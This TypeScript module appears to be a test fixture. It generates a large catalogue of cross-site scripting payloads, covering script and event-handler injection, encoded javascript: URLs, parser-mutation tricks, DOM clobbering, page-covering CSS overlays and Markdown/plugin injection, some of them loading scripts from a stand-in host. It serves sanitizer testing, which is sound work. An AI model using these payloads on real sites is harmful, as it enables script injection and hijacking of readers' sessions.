import { list } from '../helpers/list.ts';

/** An article that tries to do something in a reader's browser. */
export interface Payload {
  /** Its family and number. */
  id: string;
  content: string;
  title?: string;
  cover_image?: string;
}

/** The origin that payloads send requests to. Its script calls `alert`. */
export const canary = 'https://canary.example';

const run = 'alert(1)';
const image = `<img src=x onerror=${run}>`;
const code = `javascript:${run}`;
const svgFile = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`;
const page = `<script>parent.${run}</script><script>${run}</script>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
/** Splits a list, in which `°` is a backtick, and `@` what is inserted. */
const listWith = (inserted: string) => (text: string) =>
  list(text).map((each) => each.replaceAll('°', '`').replaceAll('@', inserted));
const entities = (text: string, write: (code: number) => string) =>
  Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join('');

const scripts = [
  ...listWith(run)(`
  <script>@</script> <SCRIPT>@</SCRIPT·> <ScRiPt·type="text/javascript">@</sCrIpT> <script¶>@</script¶> <script>@
  <script/x>@</script/x> <script·type="module">@</script> <script·src="data:text/javascript,@"></script>
  <script><!--¶@</script> <scr<script>ipt>@</scr</script>ipt> <<script>@//<</script>
  <script·for=window·event=onload>@</script> <script·language=vbscript>x</script><script>@</script>
  <svg><script·xlink:href="data:,@"/></svg> <p><script>@</script></p> <svg><script>@</script></svg>
  <svg><script>&#97;lert(1)</script></svg> <table><script>@</script></table> <select><script>@</script></select>
  <ruby><rt><script>@</script></rt></ruby>`),
  ...listWith(canary)(`
  <script·src="@/x.js"></script> <script·src=//canary.example/x.js></script> <svg><script·href="@/x.js"/></svg>
  <script·type="module">import·"@/x.js"</script>
  <script·type="importmap">{"imports":{"x":"@/x.js"}}</script><script·type="module">import·"x"</script>`),
  `<script src="data:;base64,${base64(run)}"></script>`,
];

/** Elements that load or begin something by themselves, with a handler of the event. */
const loading = [
  ...list(`
  img:error img:load video:error video:loadstart audio:error image:error object:error embed:load body:load
  body:pageshow body:focus iframe:load link:load script:error track:error frameset:load isindex:error svg:load
  style:load math:load`).flatMap((pair, index) => {
    const [tag = '', event] = pair.split(':');
    // Sources of different kinds, and the ways in which HTML separates and quotes attributes.
    const source = ['x', `${canary}/x.png`, 'data:,'].at(index % 3);
    const space = [' ', '/', '\n', '\t', '\f'].at(index % 5);
    const written = [run, `"${run}"`, `'${run}'`, entities(run, (value) => `&#${value};`)];
    const attributes = ['', `src="${source}"`, `data="${source}"`, `href="${canary}/x.css"`];
    const handler = `ON${event}${space === '/' ? '' : space}=${written.at(index % 4)} >`;
    return [
      `<${tag} src=x data=x on${event}=${run}>`,
      `<${tag.toUpperCase()}${[...attributes, 'rel=stylesheet', handler].join(space)}`,
    ];
  }),
  ...list('animate:begin set:begin image:error use:load style:load').map((pair) => {
    const [tag, event] = pair.split(':');
    return `<svg><${tag} href=x attributeName=x dur=1s on${event}=${run}></${tag}></svg>`;
  }),
  ...list('input a xss video').map(
    (tag) => `<${tag} href=# contenteditable autofocus tabindex=0 onfocus=${run}>x</${tag}>`,
  ),
  `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${run}">x</b>`,
  ...listWith(run)(`
  <img·src=x·onerror=@// <img·"""><img·src=x·onerror=@>">
  <img·src=x·id=x·name=y·title=z·alt=w·onerror=@·onerror=none> <img·srcset=x·onerror=@>
  <picture><source·srcset=x><img·onerror=@></picture> <video><source·onerror=@></video>
  <video·controls><track·default·src=x·onerror=@></video> <input·type=image·src=x·onerror=@>
  <b·style="animation:x·1s"·onanimationend=@>x</b> <details·open·ontoggle=@>x</details>
  <marquee·onstart=@·loop=1·width=0·onfinish=@>x</marquee>
  <math·onload=@><mtext><img·src=x·onerror=@></mtext></math>`),
];

/** Handlers of what readers do. */
const handlers = [
  ...list(`
  click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave pointerdown pointerup pointerover
  pointerenter pointermove focus focusin blur keydown keyup contextmenu wheel dragstart copy cut paste beforecopy
  auxclick touchstart`).map((name, index) =>
    [
      `<b tabindex="0" on${name}="${run}">x</b>`,
      `<a href="#x" ON${name.toUpperCase()}='${run}'>x</a>`,
      `<p tabindex=0 on${name}\n=\n${run}>x</p>`,
    ].at(index % 3),
  ),
  ...list(`
  <summary <label <button <svg·width=9·height=9 <table><tr><td <video·controls -·[x]·<b |·a·|¶|·-·|¶|·<b #·<b
  a[^1]¶¶[^1]:·<b`).map((start) => `${start} onclick=${run}>x`),
  `<body onscroll=${run}>${'<br>'.repeat(100)}x`,
  ...listWith(run)(`
  <details·ontoggle=@><summary>x</summary></details> <input·type=checkbox·onchange=@>
  <form·onsubmit=@><button>x</button></form>
  <form·oninvalid=@><input·required·oninvalid=@><button>x</button></form>
  <button·popovertarget=x>x</button><b·id=x·popover·onbeforetoggle=@>y</b>
  <dialog·open·onclose=@><form·method=dialog><button>x</button></form></dialog>
  <body·onhashchange=@><a·href="#h">x</a> <body·onafterprint=@>
  <map·name=m><area·href=#·onclick=@·shape=default></map><img·usemap=#m·src=x>`),
];

const bare = listWith(run)(`
  javascript:@ JAVASCRIPT:@ JaVaScRiPt:@ javascript:@//http://a.example/ javascript://a.example/%0a@
  javascript:%61lert(1) javascript:void(@) javascript:'<script>@</script>'`);
const encoded = [
  ...bare,
  ...[
    (value: number) => `&#${value};`,
    (value: number) => `&#x${value.toString(16)};`,
    (value: number) => `&#X${value.toString(16).toUpperCase()};`,
    (value: number) => `&#${String(value).padStart(7, '0')};`,
    (value: number) => `&#${value}`,
  ].map((write) => entities(code, write)),
  ...list(`
  javascript&colon;alert(1) javascript&#58;alert(1) javascript&#x3a;alert&lpar;1&rpar; &#106;avascript:alert(1)
  java&Tab;script:alert(1) java&NewLine;script:alert(1) java&#9;script:alert(1) java&#10;script:alert(1)
  java&#13;script:alert(1) java&#x0D;&#x0A;script&#9;:alert(1) j&#9;a&#9;v&#9;a&#9;s&#9;c&#9;r&#9;i&#9;p&#9;t:alert(1)
  &#1;javascript:alert(1) &#14;javascript:alert(1) &#x1f;&#x20;javascript:alert(1) java¶script:alert(1)
  javascript¶:alert(1) ···javascript:alert(1) ·&#14;··javascript:alert(1)`),
  ...['java\tscript:', 'java\rscript:', 'javascript\t:'].map((start) => start + run),
  ...['\u0001', '\u001b', '\n\t'].map((sign) => sign + code),
];
const odd = [
  ...['\u00a0', '\ufeff', '\u200b', '\u2028'].map((sign) => sign + code),
  ...['\u0000', '&#0;', '\u00ad'].map((sign) => `java${sign}script:alert(1)`),
  ...list(`
  ｊavascript:alert(1) javaſcript:alert(1) javascript：alert(1) vbscript:msgbox(1) view-source:javascript:alert(1)
  blob:javascript:alert(1) filesystem:javascript:alert(1) about:blank#javascript:alert(1) data:,alert(1)
  data:text/html,<script>alert(1)</script> DATA:text/html,x da&#9;ta:text/html,x
  data:image/svg+xml,<svg·onload=alert(1)>`),
  `data:text/html;base64,${base64(page)}`,
];
const urls = [
  ...[...encoded, ...odd].map((url) => `<a href="${url.replaceAll('"', '&quot;')}">x</a>`),
  ...encoded.slice(0, 20).map((url) => `<iframe src="${url.replaceAll('"', '&quot;')}"></iframe>`),
  ...encoded.slice(10, 20).map((url) => `<a target=_self HREF = ${url}>x</a>`),
];

const carriers = [code, 'java&#10;script:alert(1)', '&#1;JavaScript:alert(1)'].flatMap((url) =>
  listWith(url)(`
  <a·href='@'·target=_blank>x</a> <a·xlink:href="@">x</a> <a·href=°@°>x</a>
  <map·name=m><area·shape=default·href="@"></map><img·usemap=#m·src=x·width=9·height=9>
  <form·action="@"><button>x</button></form> <form·action="@"><input·type=submit></form>
  <form·id=f·action="@"></form><button·form=f>x</button> <form><button·formaction="@">x</button></form>
  <form><input·type=submit·formaction="@"></form> <form><input·type=image·src=x·formaction="@"></form>
  <object·data="@"></object> <embed·src="@"> <frameset><frame·src="@"></frameset>
  <svg·width=9·height=9><a·href="@"><rect·width=9·height=9·/></a></svg>
  <svg·width=9·height=9><a·xlink:href="@"><text·y=9>x</text></a></svg>
  <svg·width=9·height=9><a><animate·attributeName=href·values="@"·/><text·y=9>x</text></a></svg>
  <svg·width=9·height=9><a><set·attributeName=href·to="@"·/><text·y=9>x</text></a></svg> <math·href="@">x</math>
  <math><mi·xlink:href="@">x</mi></math> <meta·http-equiv=refresh·content="0;url=@">
  <base·href="@//"><a·href="/x">x</a> <img·src="@"> <img·srcset="@·1x"> <video·poster="@"·src="@"></video>
  <table·background="@"><tr><td·background="@">x</td></tr></table> <blockquote·cite="@">x</blockquote>
  <link·rel=stylesheet·href="@"> <a·href=#·ping="@">x</a> <object><param·name=code·value="@"></object>
  <portal·src="@"></portal>`),
);

const documents = [
  `data:text/html,${page}`,
  `data:text/html;base64,${base64(page)}`,
  `data:image/svg+xml;base64,${base64(svgFile)}`,
  `${canary}/page.html`,
];
const frames = [
  ...documents.flatMap((address) =>
    listWith(address)(`
  <iframe·src="@"></iframe> <object·data="@"></object> <object·type="text/html"·data="@"></object> <embed·src="@">`),
  ),
  `<iframe srcdoc="${page}"></iframe>`,
  `<embed type="image/svg+xml" src="${canary}/x.svg">`,
  ...listWith(run)(`
  <iframe·srcdoc='&lt;script&gt;parent.@&lt;/script&gt;'></iframe>
  <iframe·sandbox="allow-scripts"·srcdoc="<script>@</script>"></iframe>
  <iframe·name=x></iframe><a·target=x·href="javascript:@">x</a>
  <fencedframe></fencedframe><iframe·srcdoc="<svg·onload=parent.@>">`),
];

/** Elements that make the page request or open something else. */
const elsewhere = [
  `<meta http-equiv="refresh" content="0;url=data:text/html,${page}">`,
  ...list('stylesheet preload modulepreload prefetch').flatMap((rel) => [
    `<link rel=${rel} as=script href=${canary}/x.js>`,
    `<link rel="${rel}" as="style" href="${canary}/x.css">`,
  ]),
  ...[`@import '${canary}/x.css';`, `@import url(${canary}/x.css)`].flatMap((rule) =>
    ['<style></style>', '<svg><style></style></svg>'].map((html) =>
      html.replace('></style', `>${rule}</style`),
    ),
  ),
  `<style>@font-face{font-family:x;src:url(${canary}/x.woff)}b{font-family:x}</style><b>x</b>`,
  ...listWith(canary)(`
  <meta·http-equiv="refresh"·content="0;url=@/"> <META·HTTP-EQUIV=refresh·CONTENT=0;@/>
  <base·href="@/"><a·href="x">x</a> <base·target=_blank><a·href=/>x</a>
  <form·action="@/"·method=post><button>x</button></form>
  <form·action="@/"·target=_blank><button>x</button></form>
  <button·formaction="@/"·form=f>x</button><form·id=f></form> <a·href=#·ping="@/">x</a>`),
];

/** HTML that parsers move, or read in another way the second time. */
const mutation = [
  ...listWith(image)(`
  <noscript><p·title="</noscript>@"></noscript> <noscript><style></noscript>@</style></noscript>
  <noscript><!--</noscript>@--></noscript> <noscript><textarea></noscript>@</textarea> <template>@</template>
  <template><template></template></template>@ <template·shadowrootmode=open>@</template>
  <style><!--</style>@--></style> <style></style/>@</style> <svg><style>@</style></svg>
  <svg></p><style><a·id="</style>@"> <svg><![CDATA[>@]]></svg> <svg><title>@</title></svg>
  <svg><desc>@</desc></svg> <svg><foreignObject>@</foreignObject></svg>
  <svg><desc><noscript></desc></noscript>@</svg> <math><mtext><table><mglyph><style><math>@
  <math><annotation-xml·encoding="text/html">@</annotation-xml></math> <math><mi><style>@</style></mi></math>
  <svg><annotation-xml><foreignobject><style><!--</style><p·id="-->@"> <form><div></form><form>@
  <form·id=a><form·id=b><input·name=parentNode>@</form></form> <!-->@--> <!--->@--> <!--·--!>@·-->
  <!--·x·-->@<!--·--> <![CDATA[@]]> <![CDATA[>@]]> <?xml·version="1.0"?>@ <?·>@·?>
  <!DOCTYPE·html·[<!ENTITY·x·"y">]>@ <!ELEMENT·a>@ </·>@ </p/>@ <xmp><p·title="</xmp>@"></xmp>
  <noembed><p·title="</noembed>@"></noembed> <noframes><p·title="</noframes>@"></noframes>
  <iframe><p·title="</iframe>@"></iframe> <textarea><p·title="</textarea>@"></textarea>
  <title><p·title="</title>@"></title> <select><template>@</template></select> <select><keygen>@</select>
  <select><style></select>@</style> <table><tr><td><svg><desc><table>@
  <frameset><noframes></noframes></frameset>@ <plaintext>@ <a·title="</a>@">x</a> <p·class='language-">@'>x</p>
  <p·style='color:">@'>x</p> <p·lang="-->@">x</p> <p·is=x-y><x-y>@</x-y></p> <dialog·open>@</dialog>
  <video><noscript></video>@</noscript> <button><button>@ <svg><p><style><a·id="</style>@"></p></svg>
  <form><math><mtext></form><form><mglyph><style></math>@ <p·title="°@">x</p>
  <math><mtext><mglyph><svg><mtext><textarea><path·id="</textarea>@">
  <math><annotation-xml·encoding=application/xhtml+xml><style>@</style></annotation-xml></math>
  <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a·title="</style>@"></style></h1>
  <svg><script>&lt;/script>@</script></svg>@`),
  ...listWith(`&lt;img src=x onerror=${run}&gt;`)(`
  <math><mtext><table><mglyph><style><!--</style><img·title="--&gt;@"> <listing>@</listing> <p·title="@">@</p>
  <p·id="&quot;&gt;@">x</p>`),
  ...listWith(`<script>${run}</script>`)(`
  <div><template·shadowrootmode=open>@</template></div> <!--[if·gte·IE·4]>@<![endif]--> <b·@0
  <img·alt="</p>@"·src=x>`),
  ...listWith(run)(`
  <img·alt="&quot;·onerror=@·x=&quot;"·src=x> <code>&lt;script&gt;@&lt;/script&gt;</code>
  <table><a·href="javascript:@">x<tr><td><a·href="javascript:@">x</table>
  <a><table><a·href="javascript:@">x</a></table></a> <img·__ASTRO_IMAGE_='{"src":"javascript:@","onerror":"@"}'>
  <img·__ASTRO_IMAGE_='{"src":"x\\"·onerror=@·y=\\"","alt":"\\"·onerror=@·\\""}'>`),
  `<svg><foreignobject><iframe srcdoc="${page}"></iframe></foreignobject></svg>`,
  `${'<b>'.repeat(600)}${image}`,
];

/** Names that become properties of `window` or `document`. */
const clobbering = [
  ...list(`
  cookie body getElementById querySelector createElement forms currentScript head title scripts`).map(
    (name, index) =>
      listWith(name)(`
  <img·name=@·src=x> <form·name="@"></form> <embed·NAME=@> <iframe·name=@></iframe> <object·id=@></object>`).at(
        index % 5,
      ),
  ),
  '<form><input name=attributes><input name=parentNode><input name=nodeName></form><img name=cookie>',
  '<form id=body name=body></form><img id=forms name=forms>',
  `<A ID="siteConfig" HREF="data:,${run}">x</A>`,
  ...listWith(canary)(`
  <a·id=siteConfig·href="@/x.js">x</a> <a·id=siteConfig></a><a·id=siteConfig·name=url·href="@/x.js"></a>
  <a·name=siteConfig·href="@/x.js">x</a> <map><area·id=siteConfig·href="@/x.js"></map>
  <a·id="siteConfig"·data-footnote-ref·href="@/x.js">x</a>
  <sup><a·id=siteConfig·href="//canary.example/x.js">x</a></sup>`),
];

const link = `<a href="${canary}/covers">x</a>`;
const coveringLink = link.replace(' ', ' style="position:absolute;inset:0;background:red" ');
const overlays = [
  ...list(`
  position:fixed;inset:0;z-index:99999;background:red pos\\69tion:fixed;inset:0;background:red
  POSITION:·absolute;·top:0;·left:0;·width:100vw;·height:100vh;·z-index:·9
  color:red;/*;*/position:/**/fixed;inset:0 color:red}*{position:fixed
  margin-top:-5000px;height:6000px;position:relative position:relative;top:-9999px;aspect-ratio:1/1000 transform:translateY(-500px)·scale(99);position:relative
  --x:fixed;position:var(--x);inset:0;all:unset;position&#58;fixed
  float:left;margin-top:-900px;height:2000px;width:100%;position:relative
  box-shadow:0·0·0·9999px·red;outline:9999px·solid·red;position:sticky;top:0`).map(
    (style) => `<div style="${style}">${link}</div>`,
  ),
  ...list(`
  position:static position:relative;display:contents position:relative;position:static!important`).map(
    (style) => `<div style="${style}">${coveringLink}</div>`,
  ),
  `${'<span style="font-size:300%;line-height:0">'.repeat(8)}${link}`,
  `${'<h1><div>'.repeat(8)}${link.replace(' ', ' style="position:relative;top:-1em" ')}`,
  `${'<big>'.repeat(20)}${link.replace(' ', ' style="margin-left:-2em" ')}`,
  ...listWith(canary)(`
  <a·class="cover·footnotes"·href="@/">x</a>
  <p·style="background-color:url(@/x.css)">x</p><link·rel=stylesheet·href=@/x.css>
  <p·style="-moz-binding:url(@/x.xml);behavior:url(x)">x</p><svg·onload=alert(1)>
  <p·style="color:expression(alert(1))">x</p><svg·onload=alert(1)>
  <p·style="background-image:url('javascript:alert(1)')">x</p><svg·onload=alert(1)>
  <style>.x{position:fixed;inset:0}</style><a·class=x·href=/>x</a> <style>*{display:none!important}</style>
  <div·class="cover">x</div> <span·class="line·cover">x</span>
  <div·id=cover>x</div><style>#cover{position:fixed;inset:0}</style>
  <dialog·open·style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>`),
];

const unclosed = [
  ...list(`
  textarea title style script template noembed noframes iframe xmp plaintext noscript select div table ul b a button
  form details dialog svg math ruby object marquee audio video`).map(
    (name) => `<${name}>\n\n*swallowed*`,
  ),
  ...list(`
  <!--·x <!--x <![CDATA[·x <?·x <!A·x <img·alt="x <a·href='x <div·title="¶¶x <b·hidden> <div·hidden>·x <table><tr><td>
  <table><caption> <svg><foreignObject><textarea> <math><mtext><textarea> <select><option> </article></main><div>x
  </div></article></main></body></html><b>x </p></article><plaintext> <body·hidden><html·hidden> <details><summary>x`),
].map((html) => `text\n\n${html}`);

/** Text that Markdown turns into elements, attributes or URLs. */
const markdown = [
  ...bare.map((url) => `[x](${/[<']/.test(url) ? `<${url}>` : url})`),
  ...list(`
  javascript: JavaScript: javascript&colon; java&Tab;script: &#106;avascript: &#x1;javascript: java&#10;script:`).flatMap(
    (scheme) => listWith(scheme + run)('[x](<@>) [x](<·@>) <@>'),
  ),
  ...listWith(code)(`
  [x][1]¶¶[1]:·@ [x]¶¶[x]:·<@>·"title" [x][]¶¶[X]:¶··@ [![x](x)](@) ![x](@) a[^1]¶¶[^1]:·[x](@) ##·[x](@)
  <div>¶¶[x](@)¶¶</div> |·a·|¶|·-·|¶|·[x](@)·|`),
  ...[`data:text/html,<script>${run}</script>`, `data:text/html;base64,${base64(page)}`].map(
    (url) => `[x](${url})`,
  ),
  ...listWith(image)(`
  a[^">@]¶¶[^">@]:·b a[^1]¶¶[^1]:·@ °°°">@¶x¶°°° °°°js·">@¶x¶°°° °°°html¶</code></pre>@¶°°° #·@ |·@·|¶|·-·|
  <details><summary>¶¶@¶¶</summary></details> <!--·°°°·-->@¶¶°°° import·x·from·'x'¶¶{alert(1)}¶¶@
  www.a.example/">@`),
  ...listWith(`<script>${run}</script>`)(`
  ~~~@¶x¶~~~ °°°html¶@¶°°° #·">@ \\@ &lt;script&gt;x&lt;/script&gt;@ ---¶title:·@¶---¶@`),
  ...listWith(run)(`
  ![x](x"onerror="@) ![x](x·'a"·onerror="@') !["·onerror="@](x) ![x]¶¶[x]:·x"onerror="@
  [x](x·"\\"·onmouseover=\\"@") [x](https://a.example/"onclick="@) #·x·{#"onclick="@} *a·<b¶·onmouseover=@>x</b>*
  <a·href="javascript¶:@">*x*</a> http://a.example/"onclick="@ :::note{onclick="@"}¶x¶:::¶¶<svg·onload=@>`),
  `a@b.example"onclick="${run}`,
];

/** Fields that a page shows besides the text. */
const fields = [
  ...listWith(run)(`
  <script>@</script> "><img·src=x·onerror=@> '><svg·onload=@> </title><script>@</script> \${@}{@} <!-- javascript:@
  </h1></main><img·src=x·onerror=@> --><img·src=x·onerror=@> &lt;img·src=x·onerror=@&gt;`).map(
    (title) => ({ title, content: 'Text.' }),
  ),
  ...listWith(run)(`
  javascript:@ \u0001javascript:@ x"·onerror="@ https://canary.example/x.png"·onload="@ blob:https://a.example/x
  vbscript:x`)
    .concat('JAVA\tSCRIPT:alert(1)', `data:text/html,${page}`, `data:image/svg+xml,${svgFile}`)
    .map((cover_image) => ({ cover_image, content: 'Text.' })),
  { title: image, content: `# ${image}\n\nText.` },
  { title: 'T', content: `<p>&lt;img src=x onerror=${run}&gt;</p>` },
];

/** Text that plugins turn into elements, attributes or URLs. */
const plugins = [
  ...listWith(run)(`
  :script[@] :::script¶@¶::: :::style¶*{display:none}¶::: ::iframe{srcdoc="<script>@</script>"}
  :img{src=x·onerror="@"} :a[x]{href="javascript:@"} :::form{action="javascript:@"}¶:button[x]¶:::
  :::svg{onload="@"}¶x¶::: :::template¶<b·hidden>x¶::: :::textarea¶x :span[x]{id=siteConfig}
  :::div{style="position:fixed;inset:0;z-index:99"}¶over¶::: :::div{.cover}¶over¶:::
  $\\href{javascript:@}{x}$ $\\url{javascript:@}$ $\\htmlData{onclick=@}{x}$ $\\htmlClass{cover}{x}$
  $\\htmlStyle{position:fixed;inset:0;z-index:99}{x}$ $\\rule{9999em}{9999em}$ $\\raisebox{999em}{x}$
  $$¶\\kern{-9999em}\\rule{9999em}{9999em}¶$$ °°°html¶<img·src=x·onerror=@>¶°°°
  °°°html¶</code></pre><script>@</script>¶°°° °°°js·title="<img·src=x·onerror=@>"¶x¶°°°
  °°°js·{1}·"x"·/<img·src=x·onerror=@>/¶x¶°°°`),
  ...listWith(canary)(`
  ::script{src="@/x.js"} ::iframe{src="@/page.html"} ::object{data="@/page.html"} ::embed{src="@/page.html"}
  ::base{href="@/"} ::meta{http-equiv=refresh·content="0;url=@/page.html"} ::link{rel=stylesheet·href="@/x.css"}
  :a[x]{id=siteConfig·href="@/x.js"} $\\htmlId{siteConfig}{\\href{@/x.js}{x}}$ $\\includegraphics{@/x.svg}$`),
];

const families = {
  ...{ scripts, loading, handlers, urls, carriers, frames, elsewhere, mutation },
  ...{ clobbering, overlays, unclosed, markdown, plugins },
};

/** All payloads, with the id `family-number`. */
export const payloads: readonly Payload[] = [
  ...Object.entries(families).flatMap(([family, texts]) =>
    [...new Set(texts)].map((content = '', index) => ({ id: `${family}-${index}`, content })),
  ),
  ...fields.map((field, index) => ({ id: `fields-${index}`, ...field })),
];
